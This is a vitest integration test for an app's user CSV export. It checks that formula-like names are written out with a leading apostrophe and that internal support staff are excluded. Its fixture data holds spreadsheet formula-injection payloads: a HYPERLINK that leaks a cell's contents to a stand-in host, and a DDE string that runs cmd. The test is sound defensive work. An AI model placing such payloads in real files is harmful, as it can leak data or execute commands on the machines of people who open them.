import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { bearer, createTestCompany, createTestUser, testDb } from '../../test/factories.js';
import { baseUrl, request } from '../../test/http.js';
import type { components } from '../contract-types.js';

type Job = components['schemas']['BackgroundJob'];

describe('the users export', () => {
  it('writes names that look like formulas as text, with a leading apostrophe', async () => {
    const company = await createTestCompany(await testDb(), 'Formula Users Co');
    const admin = bearer(company.users.admin!);
    const people = [
      { email: `hyperlink@${company.id.slice(-6)}.test`, firstName: '=HYPERLINK("http://evil.test/?leak="&Q2)', lastName: '+SUM(1+1)' },
      { email: `dde@${company.id.slice(-6)}.test`, firstName: "-2+3+cmd|' /C calc'!A0", lastName: '@SUM(1,2)' },
    ];
    for (const person of people) expect((await request('/api/users', { method: 'POST', headers: admin, json: person })).status).toBe(201);
    // Internal staff sitting in the company are not among its users, in the file either.
    const support = await createTestUser(await testDb(), { companyId: company.id, internalAdmin: true, email: `support-${company.id.slice(-6)}@paybench.test` });

    const started = await request<{ data: Job }>('/api/users/exports', { method: 'POST', headers: admin });
    let job = started.body.data;
    for (const until = Date.now() + 20_000; !['succeeded', 'failed', 'cancelled'].includes(job.status) && Date.now() < until; ) {
      await new Promise((resolve) => setTimeout(resolve, 100));
      job = (await request<{ data: Job }>(`/api/background-jobs/${job.id}`, { headers: admin })).body.data;
    }
    expect(job.status).toBe('succeeded');
    const file = await fetch(`${baseUrl()}/api/downloads/${job.downloadId}`, { headers: admin });
    const rows = parse(await file.text(), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(7);
    expect(rows.map((row) => row.email)).not.toContain(support.email);
    for (const person of people) {
      expect(rows.find((row) => row.email === person.email)).toMatchObject({ firstName: `'${person.firstName}`, lastName: `'${person.lastName}` });
    }
  });
});
